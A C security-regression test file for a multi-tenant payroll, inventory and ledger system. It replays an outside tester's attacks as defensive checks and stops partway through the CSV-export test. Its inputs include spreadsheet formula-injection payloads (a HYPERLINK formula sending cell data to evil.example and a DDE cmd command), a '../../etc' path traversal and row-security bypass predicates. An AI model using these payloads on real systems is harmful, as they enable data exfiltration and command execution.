/*
 * An outside tester's attacks on the modules of issues 17-20 (payroll,
 * inventory, the ledger's books, currencies and import batches, the forms'
 * code tables), replayed as demo operators of each role against a real
 * PostgreSQL with the demo data, under issue 15's rules (test_attacks.c).
 * Operators assigned to ACME only are added for each role (clerk3 and pay3
 * exist: clerk3 ACME only, pay3 GLOBEX only). The cures are in
 * sql/migrations/078_hardening.sql and src/base/csv.c.
 *
 * Holes found and closed here:
 *  - a second payroll operator keyed, computed, submitted and approved a pay
 *    run someone else had created (test_pay_run_has_four_eyes);
 *  - exchange rates changed without an audit trail (test_rates_are_audited);
 *  - CSV exports wrote cells a spreadsheet runs as formulas
 *    (test_exports_defuse_formulas);
 *  - the bank file paid the account an employee has when it is made, not
 *    the one of the approved run (test_bank_file_pays_the_approved_accounts);
 *  - a payroll operator of one client loaded the statutory pack every
 *    client's runs use (test_packs_are_the_firms).
 * The rest are attacks that held, kept so they keep holding.
 */
#include "dbtest.h"

#include <poll.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "backdesk/csv.h"
#include "backdesk/kit.h"
#include "backdesk/strbuf.h"

static struct dbtest t;
static char today[16];

static long long
scalar(struct bd_db *db, const char *sql, const char *arg)
{
	return dbtest_scalar(db, sql, arg ? 1 : 0, arg ? (const char *const[]){arg} : NULL);
}

/* SQL that must fail with `state`; returns the error. */
static struct bd_err
sql_refused(struct bd_db *db, const char *state, const char *sql, int n, const char *const *p)
{
	struct bd_err err = BD_ERR_INIT;

	if (!dbtest_fails(db, sql, n, p, &err))
		fail_msg("%s succeeded but must be refused", sql);
	if (strcmp(err.sqlstate, state))
		fail_msg("%s: %s (%s), expected %s", sql, err.msg, err.sqlstate, state);
	return err;
}

/* A named query that must fail with `state`; returns the error. */
static struct bd_err
named_refused(struct bd_db *db, const char *state, const char *name, int n, const char *const *p)
{
	struct bd_err err = dbtest_named_refused(db, name, n, p);

	if (strcmp(err.sqlstate, state))
		fail_msg("%s: %s (%s), expected %s", name, err.msg, err.sqlstate, state);
	return err;
}

static char *
text_of(struct bd_db *db, const char *name, int n, const char *const *p, const char *col)
{
	struct bd_db_result *res = dbtest_named(db, name, n, p);
	char *v = strdup(dbtest_col(res, 0, col));

	bd_db_result_free(res);
	return v;
}

/* --- tables and functions of the new modules ------------------------------------------- */

static void
test_new_tables_keep_to_their_clients(void **state)
{
	struct bd_db *su = dbtest_connect(&t, NULL);
	static const char tables[] =
	    "SELECT c.oid FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace "
	    "WHERE c.relkind = 'r' AND n.nspname IN ('payroll', 'inventory', 'ledger', 'entry') "
	    "AND EXISTS (SELECT 1 FROM pg_attribute a WHERE a.attrelid = c.oid "
	    "AND a.attname = 'client_id' AND NOT a.attisdropped)";
	char sql[2048];

	(void)state;
	/* Every table with a client_id (payroll, inventory, books, codes among
	 * them): RLS enabled and forced, the tenant policy, no writes granted. */
	snprintf(sql, sizeof(sql), "SELECT count(*) FROM (%s) t", tables);
	assert_true(scalar(su, sql, NULL) >= 45);
	snprintf(sql, sizeof(sql),
		 "SELECT count(*) FROM pg_class c WHERE c.oid IN (%s) AND (NOT c.relrowsecurity "
		 "OR NOT c.relforcerowsecurity OR NOT EXISTS (SELECT 1 FROM pg_policy p "
		 "WHERE p.polrelid = c.oid AND p.polname = 'tenant' AND pg_get_expr(p.polqual, "
		 "p.polrelid) ~ 'a.login = SESSION_USER'))",
		 tables);
	assert_int_equal(scalar(su, sql, NULL), 0);
	snprintf(sql, sizeof(sql),
		 "SELECT count(*) FROM (%s) t, unnest(ARRAY['bd_clerk', 'bd_accountant', "
		 "'bd_supervisor', 'bd_admin', 'bd_payroll']) g "
		 "WHERE has_table_privilege(g, t.oid, 'INSERT, UPDATE, DELETE, TRUNCATE')",
		 tables);
	assert_int_equal(scalar(su, sql, NULL), 0);
	/* Pay is the payroll role's alone; ids and bank accounts nobody's. */
	assert_int_equal(
	    scalar(su,
		   "SELECT count(*) FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace, "
		   "unnest(ARRAY['bd_clerk', 'bd_accountant', 'bd_supervisor', 'bd_admin']) g "
		   "WHERE n.nspname = 'payroll' AND c.relkind IN ('r', 'v') "
		   "AND has_table_privilege(g, c.oid, 'SELECT')",
		   NULL),
	    0);
	assert_int_equal(scalar(su,
				"SELECT count(*) FROM unnest(ARRAY['payroll.employee_private', "
				"'payroll.run_accounts']::regclass[]) c, unnest(ARRAY['bd_clerk', "
				"'bd_accountant', 'bd_supervisor', 'bd_admin', 'bd_payroll']) g "
				"WHERE has_table_privilege(g, c, 'SELECT')",
				NULL),
			 0);
	bd_db_free(su);
}

static void
test_definer_functions_are_locked(void **state)
{
	struct bd_db *su = dbtest_connect(&t, NULL);
	static const char *const ops[] = {"clerk3", "acct3", "super3", "admin3", "pay3"};
	size_t i;

	(void)state;
	/* Pinned path, no EXECUTE for PUBLIC, owned by bd_owner, nothing
	 * leakproof (a leakproof function runs before row security). */
	assert_true(
	    scalar(su,
		   "SELECT count(*) FROM pg_proc p JOIN pg_namespace n ON n.oid = "
		   "p.pronamespace WHERE n.nspname IN ('payroll', 'inventory') AND p.prosecdef",
		   NULL) >= 30);
	assert_int_equal(
	    scalar(su,
		   "SELECT count(*) FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace "
		   "WHERE n.nspname IN ('payroll', 'inventory', 'ledger', 'entry', 'approvals') "
		   "AND ((p.prosecdef AND NOT coalesce(array_to_string(p.proconfig, ' ') "
		   "~ 'search_path=pg_catalog', false)) OR p.proacl IS NULL "
		   "OR array_to_string(p.proacl, ',') ~ '(^|,)=X' "
		   "OR p.proowner <> 'bd_owner'::regrole OR p.proleakproof)",
		   NULL),
	    0);
	/* An operator makes no function or operator of their own (no schema to
	 * create it in, no temporary schema): the leakproof trick has nothing
	 * to start from. */
	for (i = 0; i < sizeof(ops) / sizeof(*ops); i++) {
		struct bd_db *db = dbtest_connect(&t, ops[i]);

		assert_int_equal(scalar(db,
					"SELECT count(*) FROM pg_namespace "
					"WHERE has_schema_privilege(oid, 'CREATE')",
					NULL),
				 0);
		assert_int_equal(
		    scalar(db,
			   "SELECT count(*) FROM pg_database WHERE datname = current_database() "
			   "AND (has_database_privilege(oid, 'TEMP') OR "
			   "has_database_privilege(oid, 'CREATE'))",
			   NULL),
		    0);
		sql_refused(db, "42501",
			    "CREATE FUNCTION pg_temp.peek(integer) RETURNS boolean LANGUAGE sql "
			    "COST 0.0001 AS 'SELECT true'",
			    0, NULL);
		bd_db_free(db);
	}
	bd_db_free(su);
}

/*
 * Every function of the new modules an operator may run, called with the
 * code of a client they are not assigned to and with a code no client has,
 * text arguments all that code, numbers 1, jsonb []: both calls must end the
 * same way (same SQLSTATE, same words but the code, same rows), so nothing
 * tells one client it does not serve from a client that does not exist.
 */
static const char probe_fmt[] =
    "DO $probe$\n"
    "DECLARE\n"
    "	f record;\n"
    "	c text;\n"
    "	args text;\n"
    "	st text;\n"
    "	m text;\n"
    "	got text[];\n"
    "	bad text := '';\n"
    "	n integer := 0;\n"
    "BEGIN\n"
    "	FOR f IN SELECT p.oid::regprocedure AS sig, p.proname, n.nspname, p.proargtypes\n"
    "		 FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace\n"
    "		 WHERE n.nspname IN ('payroll', 'inventory', 'ledger', 'entry', 'approvals')\n"
    "		   AND p.prokind = 'f' AND p.pronargs >= 1 AND p.provolatile <> 'i'\n"
    "		   AND p.prorettype <> 'trigger'::regtype\n"
    "		   AND has_function_privilege(p.oid, 'EXECUTE')\n"
    "		   AND has_schema_privilege(n.oid, 'USAGE') LOOP\n"
    "		got := '{}';\n"
    "		FOREACH c IN ARRAY ARRAY['%s', 'NOSUCH'] LOOP\n"
    "			SELECT string_agg(CASE t::regtype::text WHEN 'text' THEN quote_literal(c)\n"
    "				WHEN 'jsonb' THEN '''[]''' WHEN 'date' THEN 'current_date'\n"
    "				WHEN 'boolean' THEN 'false'\n"
    "				WHEN 'integer' THEN '1' WHEN 'bigint' THEN '1' WHEN 'numeric' THEN "
    "'1'\n"
    "				ELSE 'NULL' END || '::' || t::regtype::text, ', ' ORDER BY o)\n"
    "			INTO args FROM unnest(f.proargtypes::oid[]) WITH ORDINALITY x(t, o);\n"
    "			BEGIN\n"
    "				EXECUTE format('SELECT array_agg(v::text) FROM (SELECT "
    "%%I.%%I(%%s) AS v) x',\n"
    "					       f.nspname, f.proname, args) INTO m;\n"
    "				got := got || ('OK ' || coalesce(m, '-'));\n"
    "			EXCEPTION WHEN others THEN\n"
    "				GET STACKED DIAGNOSTICS st = RETURNED_SQLSTATE, m = MESSAGE_TEXT;\n"
    "				got := got || (st || ' ' || replace(m, c, '?'));\n"
    "			END;\n"
    "		END LOOP;\n"
    "		n := n + 1;\n"
    "		IF got[1] IS DISTINCT FROM got[2] THEN\n"
    "			bad := bad || format(E'\\n%%s: %%s | %%s', f.sig, got[1], got[2]);\n"
    "		END IF;\n"
    "	END LOOP;\n"
    "	IF n < %d THEN\n"
    "		RAISE EXCEPTION 'only %% functions probed', n;\n"
    "	END IF;\n"
    "	IF bad <> '' THEN\n"
    "		RAISE EXCEPTION 'told apart: %%', bad;\n"
    "	END IF;\n"
    "END\n"
    "$probe$";

static void
test_another_client_leaks_nothing(void **state)
{
	static const struct {
		const char *login, *other;
		int functions;
	} ops[] = {
	    {"clerk3", "GLOBEX", 10}, {"acct3", "GLOBEX", 40}, {"super3", "GLOBEX", 40},
	    {"admin3", "GLOBEX", 4},  {"pay3", "ACME", 15},
	};
	/* What the other client holds. */
	static const char written[] =
	    "SELECT (SELECT count(*) FROM core.audit_log WHERE client_id = c.client_id) "
	    "+ (SELECT count(*) FROM payroll.runs WHERE client_id = c.client_id) "
	    "+ (SELECT count(*) FROM payroll.inputs WHERE client_id = c.client_id) "
	    "+ (SELECT count(*) FROM inventory.moves WHERE client_id = c.client_id) "
	    "+ (SELECT count(*) FROM inventory.counts WHERE client_id = c.client_id) "
	    "+ (SELECT count(*) FROM ledger.entries WHERE client_id = c.client_id) "
	    "+ (SELECT count(*) FROM ledger.import_batches WHERE client_id = c.client_id) "
	    "+ (SELECT count(*) FROM ledger.rates WHERE client_id = c.client_id) "
	    "+ (SELECT count(*) FROM entry.codes WHERE client_id = c.client_id) "
	    "+ (SELECT count(*) FROM payroll.reveals WHERE client_id = c.client_id) "
	    "FROM core.clients c WHERE c.code = $1";
	struct bd_db *su = dbtest_connect(&t, NULL);
	char sql[sizeof(probe_fmt) + 64];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(ops) / sizeof(*ops); i++) {
		struct bd_db *db = dbtest_connect(&t, ops[i].login);
		long long before = scalar(su, written, ops[i].other);
		struct bd_err err = BD_ERR_INIT;
		struct bd_db_result *res;

		snprintf(sql, sizeof(sql), probe_fmt, ops[i].other ? ops[i].other : "",
			 ops[i].functions);
		res = dbtest_query(db, sql, 0, NULL, &err);
		if (!res)
			fail_msg("%s: %s", ops[i].login, err.msg);
		bd_db_result_free(res);
		/* ...and nothing of the other client was written. */
		assert_int_equal(scalar(su, written, ops[i].other), before);
		bd_db_free(db);
	}
	bd_db_free(su);
}

/* --- payroll -------------------------------------------------------------------------- */

static void
test_payroll_stays_with_payroll(void **state)
{
	static const char *const others[] = {"clerk3", "acct3", "super3", "admin3"};
	struct bd_db *pay1 = dbtest_connect(&t, "pay1");
	struct bd_db *acct1 = dbtest_connect(&t, "acct1");
	struct bd_db *su = dbtest_connect(&t, NULL);
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(others) / sizeof(*others); i++) {
		struct bd_db *db = dbtest_connect(&t, others[i]);

		sql_refused(db, "42501", "SELECT count(*) FROM payroll.payslips", 0, NULL);
		sql_refused(db, "42501", "SELECT * FROM payroll.employee_list('ACME', NULL)", 0,
			    NULL);
		sql_refused(db, "42501", "SELECT payroll.reveal('ACME', 'E1001', 'bank_account')",
			    0, NULL);
		bd_db_free(db);
	}
	/* The payroll role reads no id or account in clear but through reveal. */
	sql_refused(pay1, "42501", "SELECT count(*) FROM payroll.employee_private", 0, NULL);
	assert_int_equal(scalar(pay1,
				"SELECT count(*) FROM payroll.employee_list('ACME', NULL) "
				"WHERE bank_account !~ '^[*]{4}' OR tax_id !~ '^[*]{4}' "
				"OR sss_no !~ '^[*]{4}'",
				NULL),
			 0);
	assert_true(scalar(pay1,
			   "SELECT count(*) FROM payroll.employee_list('ACME', NULL) "
			   "WHERE bank_account IS NOT NULL",
			   NULL) >= 40);
	/* A reveal is a row of its own in the audit trail. */
	{
		long long n = scalar(su,
				     "SELECT count(*) FROM core.audit_log "
				     "WHERE table_name = 'payroll.reveals'",
				     NULL);
		char *v =
		    dbtest_text(pay1, "SELECT payroll.reveal('ACME', 'E1003', 'tax_id')", NULL);

		assert_string_equal(v, "103-203-303-000");
		free(v);
		assert_int_equal(scalar(su,
					"SELECT count(*) FROM core.audit_log "
					"WHERE table_name = 'payroll.reveals'",
					NULL),
				 n + 1);
	}
	/* Accountants read the audit trail: payroll's rows hold keys and the
	 * names of changed columns, never a salary, an id or an account. */
	assert_true(scalar(acct1,
			   "SELECT count(*) FROM core.audit_log WHERE table_name LIKE 'payroll.%'",
			   NULL) > 100);
	assert_int_equal(
	    scalar(acct1,
		   "SELECT count(*) FROM core.audit_log WHERE table_name LIKE 'payroll.%' "
		   "AND (coalesce(old, '{}') - '{changed,status,version}'::text[] <> '{}' "
		   "OR coalesce(new, '{}') - '{changed,status,version}'::text[] <> '{}' "
		   "OR row_key - '{client_id,employee_id,run_id,input_id,reveal_id,agency,code,"
		   "effective_from}'::text[] <> '{}')",
		   NULL),
	    0);
	/* No bank file before the run is approved. */
	sql_refused(pay1, "BD003",
		    "SELECT count(*) FROM payroll.bank_payments('ACME', (SELECT min(run_id) "
		    "FROM payroll.runs WHERE status <> 'final'))",
		    0, NULL);
	bd_db_free(su);
	bd_db_free(acct1);
	bd_db_free(pay1);
}

/* A new off-cycle run of ACME for this month made by `maker`; its id. */
static char *
offcycle_run(struct bd_db *maker, const char *day_from)
{
	struct bd_db_result *res =
	    dbtest_named(maker, "payroll.run_create",
			 BD_PARAMS("ACME", "monthly", "offcycle", day_from, today, today));
	char *id = strdup(dbtest_col(res, 0, "run_id"));

	bd_db_result_free(res);
	return id;
}

static char *
run_version(struct bd_db *db, const char *run)
{
	return dbtest_text(db, "SELECT version::text FROM payroll.runs WHERE run_id = $1::bigint",
			   run);
}

/*
 * pay1 creates an off-cycle run; pay2 keys a 900,000.00 bonus for one
 * employee, computes the run, submits it and approves it: the maker (pay1)
 * differs from the approver, yet nobody but pay2 saw the figures. Before
 * 078 the run was posted; now whoever computed or submitted a run does not
 * approve it, whatever the function that sets it final.
 */
static void
test_pay_run_has_four_eyes(void **state)
{
	struct bd_db *pay1 = dbtest_connect(&t, "pay1");
	struct bd_db *pay2 = dbtest_connect(&t, "pay2");
	char first[16], input[512], *run, *v, *v2;
	struct bd_err err;

	(void)state;
	snprintf(first, sizeof(first), "%.8s01", today);
	run = offcycle_run(pay1, first);
	snprintf(input, sizeof(input),
		 "[{\"_line\":2,\"number\":\"E1002\",\"on_date\":\"%s\",\"code\":\"BONUS\","
		 "\"amount\":\"900000\",\"run_kind\":\"offcycle\"}]",
		 today);
	dbtest_named_ok(pay2, "payroll.import_inputs", BD_PARAMS("ACME", "bonus.csv", input));
	dbtest_named_ok(pay2, "payroll.run_compute", BD_PARAMS("ACME", run));
	v = run_version(pay2, run);
	v2 = text_of(pay2, "payroll.run_submit", BD_PARAMS("ACME", run, v), "version");
	err = named_refused(pay2, "BD002", "approvals.approve",
			    BD_PARAMS("payroll.run", "ACME", run, v2));
	if (!strstr(err.msg, "Someone else must approve a pay run you made"))
		fail_msg("%s", err.msg);
	/* pay1 made the run: refused too; it waits for a third person. */
	named_refused(pay1, "BD002", "approvals.approve",
		      BD_PARAMS("payroll.run", "ACME", run, v2));
	assert_int_equal(
	    scalar(pay1,
		   "SELECT count(*) FROM payroll.runs WHERE run_id = $1::bigint AND "
		   "status = 'submitted' AND computed_by = 'pay2' AND submitted_by = 'pay2'",
		   run),
	    1);
	/* pay1 sends it back; it never reached the books. */
	dbtest_named_ok(pay1, "approvals.reject",
			BD_PARAMS("payroll.run", "ACME", run, v2, "a bonus nobody asked for"));
	free(v);
	free(v2);
	free(run);
	bd_db_free(pay2);
	bd_db_free(pay1);
}

/*
 * The maker approving their own item, and a checker approving a version
 * other than the one they saw, for each new kind; each kind's approver
 * role in the database.
 */
static void
test_approvals_of_the_new_kinds(void **state)
{
	struct bd_db *pay1 = dbtest_connect(&t, "pay1");
	struct bd_db *pay2 = dbtest_connect(&t, "pay2");
	struct bd_db *acct1 = dbtest_connect(&t, "acct1");
	struct bd_db *acct2 = dbtest_connect(&t, "acct2");
	struct bd_db *super1 = dbtest_connect(&t, "super1");
	struct bd_db *clerk1 = dbtest_connect(&t, "clerk1");
	char *run, *v, *v2, *id, *msg, lines[256];
	struct bd_err err;
	long long n;

	(void)state;
	/* payroll.run: the demo's run, computed and submitted by pay1. */
	run = dbtest_text(pay1,
			  "SELECT run_id::text FROM payroll.runs WHERE client_id = 1 "
			  "AND status = 'submitted' AND kind = 'regular'",
			  NULL);
	v = run_version(pay2, run);
	err = named_refused(pay1, "BD002", "approvals.approve",
			    BD_PARAMS("payroll.run", "ACME", run, v));
	assert_non_null(strstr(err.msg, "your own"));
	/* Other roles may not approve pay (it is not waiting, for them). */
	named_refused(acct1, "BD003", "approvals.approve",
		      BD_PARAMS("payroll.run", "ACME", run, v));
	named_refused(super1, "BD003", "approvals.approve",
		      BD_PARAMS("payroll.run", "ACME", run, v));
	named_refused(clerk1, "42501", "approvals.approve",
		      BD_PARAMS("payroll.run", "ACME", run, v));
	/* pay2 saw version v; pay1 recomputes (back to draft) and resubmits. */
	dbtest_named_ok(pay1, "payroll.run_compute", BD_PARAMS("ACME", run));
	v2 = run_version(pay1, run);
	free(text_of(pay1, "payroll.run_submit", BD_PARAMS("ACME", run, v2), "version"));
	free(v2);
	v2 = run_version(pay1, run);
	assert_string_not_equal(v, v2);
	named_refused(pay2, "BD003", "approvals.approve", BD_PARAMS("payroll.run", "ACME", run, v));
	dbtest_named_ok(pay2, "approvals.approve", BD_PARAMS("payroll.run", "ACME", run, v2));
	free(v);
	free(v2);
	free(run);

	/* inventory.move: a receipt over GLOBEX's approval limit waits. */
	snprintf(
	    lines, sizeof(lines),
	    "[{\"item\":\"A-0001\",\"qty\":\"100\",\"location\":\"WH1\",\"unit_cost\":\"100\"}]");
	msg = text_of(acct1, "inventory.move_create",
		      BD_PARAMS("GLOBEX", "receipt", today, "ATK-M", "", lines), "message");
	id = strndup(msg + 5, strcspn(msg + 5, " "));
	free(msg);
	named_refused(acct1, "BD002", "approvals.approve",
		      BD_PARAMS("inventory.move", "GLOBEX", id, "1"));
	named_refused(acct2, "BD003", "approvals.approve",
		      BD_PARAMS("inventory.move", "GLOBEX", id, "2"));
	named_refused(pay1, "BD003", "approvals.approve",
		      BD_PARAMS("inventory.move", "GLOBEX", id, "1"));
	named_refused(clerk1, "42501", "approvals.approve",
		      BD_PARAMS("inventory.move", "GLOBEX", id, "1"));
	dbtest_named_ok(acct2, "approvals.approve", BD_PARAMS("inventory.move", "GLOBEX", id, "1"));
	free(id);

	/* inventory.count: a blind count approved by someone else. */
	msg = text_of(acct1, "inventory.count_submit",
		      BD_PARAMS("GLOBEX", "WH1", today, "[{\"item\":\"A-0002\",\"qty\":\"3\"}]"),
		      "message");
	id = strndup(msg + 6, strcspn(msg + 6, " "));
	free(msg);
	named_refused(acct1, "BD002", "approvals.approve",
		      BD_PARAMS("inventory.count", "GLOBEX", id, "1"));
	named_refused(super1, "BD003", "approvals.approve",
		      BD_PARAMS("inventory.count", "GLOBEX", id, "9"));
	named_refused(pay2, "BD003", "approvals.approve",
		      BD_PARAMS("inventory.count", "GLOBEX", id, "1"));
	n = scalar(acct1, "SELECT count(*) FROM inventory.moves", NULL);
	dbtest_named_ok(super1, "approvals.approve",
			BD_PARAMS("inventory.count", "GLOBEX", id, "1"));
	assert_int_equal(scalar(acct1, "SELECT count(*) FROM inventory.moves", NULL), n + 1);
	/* Decided once: a second approval finds nothing waiting. */
	named_refused(acct2, "BD003", "approvals.approve",
		      BD_PARAMS("inventory.count", "GLOBEX", id, "2"));
	free(id);
	/* ledger.import: db.test_journal (the maker's approval and a wrong
	 * version refused, on the CLI) and the table's CHECK (approver <> maker). */
	assert_int_equal(scalar(acct1,
				"SELECT count(*) FROM pg_constraint WHERE conrelid = "
				"'ledger.import_batches'::regclass AND pg_get_constraintdef(oid) "
				"~ 'approver IS DISTINCT FROM maker'",
				NULL),
			 1);
	bd_db_free(clerk1);
	bd_db_free(super1);
	bd_db_free(acct2);
	bd_db_free(acct1);
	bd_db_free(pay2);
	bd_db_free(pay1);
}

/* --- ledger: rates --------------------------------------------------------------------- */

/*
 * acct1 keys GLOBEX's EUR rate for a day at 1.10, then again at 1.35 (a
 * revaluation made in between read 1.10): before 078 nothing but the last
 * hand in changed_by told it ever held 1.10.
 */
static void
test_rates_are_audited(void **state)
{
	struct bd_db *acct1 = dbtest_connect(&t, "acct1");
	struct bd_db *acct2 = dbtest_connect(&t, "acct2");

	(void)state;
	dbtest_named_ok(
	    acct1, "ledger.rates_put",
	    BD_PARAMS("GLOBEX",
		      "[{\"currency\":\"EUR\",\"date\":\"2020-02-03\",\"rate\":\"1.10\"}]",
		      "keyed"));
	dbtest_named_ok(
	    acct1, "ledger.rates_put",
	    BD_PARAMS("GLOBEX",
		      "[{\"currency\":\"EUR\",\"date\":\"2020-02-03\",\"rate\":\"1.35\"}]",
		      "keyed"));
	assert_int_equal(
	    scalar(acct2,
		   "SELECT count(*) FROM core.audit_log WHERE table_name = 'ledger.rates' "
		   "AND actor = 'acct1' AND row_key ->> 'currency' = 'EUR' "
		   "AND ((op = 'INSERT' AND new ->> 'rate' = '1.10') OR (op = 'UPDATE' "
		   "AND old ->> 'rate' = '1.10' AND new ->> 'rate' = '1.35'))",
		   NULL),
	    2);
	bd_db_free(acct2);
	bd_db_free(acct1);
}

/* --- notifications --------------------------------------------------------------------- */

static void
test_new_modules_notify_by_the_rule(void **state)
{
	struct bd_db *clerk3 = dbtest_connect(&t, "clerk3");
	struct bd_db *acct1 = dbtest_connect(&t, "acct1");
	struct bd_db *su = dbtest_connect(&t, NULL);
	struct bd_err err = BD_ERR_INIT;
	struct strbuf heard = STRBUF_INIT;
	struct bd_db_result *res;
	int i, r;
	bool done = false;

	(void)state;
	/* Payroll and inventory notify through core.notify_client only (a
	 * per-client random channel, an empty payload). */
	assert_int_equal(scalar(su,
				"SELECT count(*) FROM pg_proc p JOIN pg_namespace n ON n.oid = "
				"p.pronamespace WHERE n.nspname IN ('payroll', 'inventory') "
				"AND p.prosrc ~* '(pg_notify|\\mnotify\\s)'",
				NULL),
			 0);
	/* clerk3 (ACME) listens on every channel it can name while GLOBEX's
	 * stock moves and counts wait and are decided. */
	res = dbtest_query(clerk3, "SELECT token FROM core.client_channels", 0, NULL, &err);
	assert_non_null(res);
	assert_int_equal(bd_db_result_rows(res), 1);
	bd_db_result_free(res);
	assert_int_equal(bd_kit_listen(clerk3, "queue", NULL, NULL, NULL, &err), 0);
	assert_int_equal(bd_kit_listen(clerk3, "approvals", NULL, NULL, NULL, &err), 0);
	assert_int_equal(bd_db_listen(clerk3, "bd_inventory", &err), 0);
	assert_int_equal(bd_db_listen(clerk3, "bd_payroll", &err), 0);
	assert_int_equal(bd_db_listen(clerk3, "bd_test_marker", &err), 0);
	dbtest_named_ok(acct1, "inventory.move_create",
			BD_PARAMS("GLOBEX", "receipt", today, "ATK-N", "",
				  "[{\"item\":\"A-0003\",\"qty\":\"100\",\"location\":\"WH1\","
				  "\"unit_cost\":\"100\"}]"));
	dbtest_named_ok(acct1, "inventory.count_submit",
			BD_PARAMS("GLOBEX", "WH1", today, "[{\"item\":\"A-0004\",\"qty\":\"1\"}]"));
	dbtest_exec(su, "SELECT pg_notify('bd_test_marker', '')");
	for (i = 0; i < 500 && !done; i++) {
		struct pollfd pfd = {bd_db_socket(clerk3), POLLIN, 0};
		char *ch, *pl;

		poll(&pfd, 1, 20);
		assert_int_equal(bd_db_consume(clerk3, &err), 0);
		while ((r = bd_db_next_notify(clerk3, &ch, &pl)) == 1) {
			if (!strcmp(ch, "bd_test_marker"))
				done = true;
			else
				strbuf_addf(&heard, "%s [%s]\n", ch, pl);
			free(ch);
			free(pl);
		}
	}
	assert_true(done);
	if (heard.len)
		fail_msg("clerk3 heard of GLOBEX:\n%s", heard.buf);
	strbuf_release(&heard);
	bd_db_free(su);
	bd_db_free(acct1);
	bd_db_free(clerk3);
}

/* --- row security against clever predicates ----------------------------------------------- */

static void
test_row_security_comes_first(void **state)
{
	struct bd_db *clerk3 = dbtest_connect(&t, "clerk3");
	struct bd_db *acct3 = dbtest_connect(&t, "acct3");
	struct bd_db *super3 = dbtest_connect(&t, "super3");

	(void)state;
	/* A predicate that fails on any GLOBEX row never sees one: the policy
	 * runs first, over tables and the views that read them. */
	assert_int_equal(scalar(clerk3,
				"SELECT count(*) FROM inventory.items WHERE "
				"1 / (CASE WHEN client_id = 2 THEN 0 ELSE 1 END) = 1",
				NULL),
			 0);
	assert_int_equal(scalar(clerk3,
				"SELECT count(*) FROM inventory.below_minimum WHERE "
				"1 / (CASE WHEN client = 'GLOBEX' THEN 0 ELSE 1 END) = 1",
				NULL),
			 0);
	assert_int_equal(scalar(acct3,
				"SELECT count(*) FROM ledger.rates WHERE "
				"(CASE WHEN client_id = 2 THEN rate::text::integer ELSE 0 END) = 0",
				NULL),
			 0);
	assert_int_equal(
	    scalar(super3,
		   "SELECT count(*) FROM entry.code_words WHERE "
		   "1 / (CASE WHEN client_id = 2 THEN 0 ELSE 1 END) = 1 AND word >= 'a'",
		   NULL),
	    scalar(super3, "SELECT count(*) FROM entry.code_words WHERE word >= 'a'", NULL));
	/* F4's search by GLOBEX's id finds nothing for an ACME clerk. */
	assert_int_equal(
	    scalar(clerk3, "SELECT count(*) FROM entry.code_search((SELECT 2), 'cpt', '')", NULL),
	    0);
	bd_db_free(super3);
	bd_db_free(acct3);
	bd_db_free(clerk3);
}

/* --- code tables ----------------------------------------------------------------------- */

static void
test_a_refused_codes_load_changes_nothing(void **state)
{
	struct bd_db *super3 = dbtest_connect(&t, "super3");
	struct bd_db *clerk3 = dbtest_connect(&t, "clerk3");
	static const char count[] = "SELECT count(*) FROM entry.codes WHERE code_table = 'atk'";
	struct strbuf big = STRBUF_INIT;
	int i;

	(void)state;
	dbtest_named_ok(super3, "entry.codes_load",
			BD_PARAMS("ACME", "atk",
				  "[[\"A1\",\"First\",null,null],[\"A2\",\"Second\",null,null]]"));
	assert_int_equal(scalar(clerk3, count, NULL), 2);
	/* Clerks do not load codes; nobody loads another client's. */
	named_refused(clerk3, "42501", "entry.codes_load", BD_PARAMS("ACME", "atk", "[]"));
	named_refused(super3, "BD004", "entry.codes_load", BD_PARAMS("GLOBEX", "atk", "[]"));
	/* Refused whole, the old table kept: a duplicate, a control character,
	 * a NUL, a bad date, a table name that is a path. */
	named_refused(
	    super3, "BD003", "entry.codes_load",
	    BD_PARAMS("ACME", "atk", "[[\"B\",\"x\",null,null],[\"B\",\"y\",null,null]]"));
	named_refused(super3, "BD001", "entry.codes_load",
		      BD_PARAMS("ACME", "atk", "[[\"B\",\"x\\u001b[2J\",null,null]]"));
	named_refused(super3, "22P05", "entry.codes_load",
		      BD_PARAMS("ACME", "atk", "[[\"B\",\"x\\u0000y\",null,null]]"));
	named_refused(super3, "BD001", "entry.codes_load",
		      BD_PARAMS("ACME", "atk", "[[\"B\",\"x\",\"2024-02-30\",null]]"));
	named_refused(super3, "BD001", "entry.codes_load",
		      BD_PARAMS("ACME", "../../etc", "[[\"B\",\"x\",null,null]]"));
	/* A huge load with one bad code at its end. */
	strbuf_addch(&big, '[');
	for (i = 0; i < 50000; i++)
		strbuf_addf(&big, "[\"C%d\",\"code number %d\",null,null],", i, i);
	strbuf_addstr(&big, "[\"C 1\",\"a code with a space\",null,null]]");
	named_refused(super3, "BD001", "entry.codes_load", BD_PARAMS("ACME", "atk", big.buf));
	assert_int_equal(scalar(clerk3, count, NULL), 2);
	assert_int_equal(
	    scalar(clerk3,
		   "SELECT count(*) FROM entry.code_search("
		   "(SELECT client_id FROM core.clients WHERE code = 'ACME'), 'atk', 'sec')",
		   NULL),
	    1);
	strbuf_release(&big);
	bd_db_free(clerk3);
	bd_db_free(super3);
}

/* --- exports --------------------------------------------------------------------------- */

/*
 * A clerk keys what a document says; the document's sender writes
 * =HYPERLINK(...) in a field, and the export opened in a spreadsheet runs
 * it. Every CSV export goes through bd_db_result_csv (or bd_csv_cell):
 * formulas come out as text, plain numbers stay numbers, and the reader
 * reads back exactly what was exported.
 */
static void
test_exports_defuse_formulas(void **state)
{
	static const char *const values[] = {
	    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Claim\")",
	    "+1+1",
	    "-2+3",
	    "@SUM(A1:A9)",
	    "-500.00",
	    "+12",
	    "-",
	    "'=already quoted",
	    "'tis plain",
	    "=cmd|' /C calc'!A0",
	};
	static const char *const written[] = {
	    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Claim\"\")\"",
	    "'+1+1",
	    "'-2+3",
	    "'@SUM(A1:A9)",
	    "-500.00",
	    "+12",
	    "'-",
	    "''=already quoted",
	    "'tis plain",
	    "'=cmd|' /C calc'!A0",
	};
	struct bd_db *su = dbtest_connect(&t, NULL);
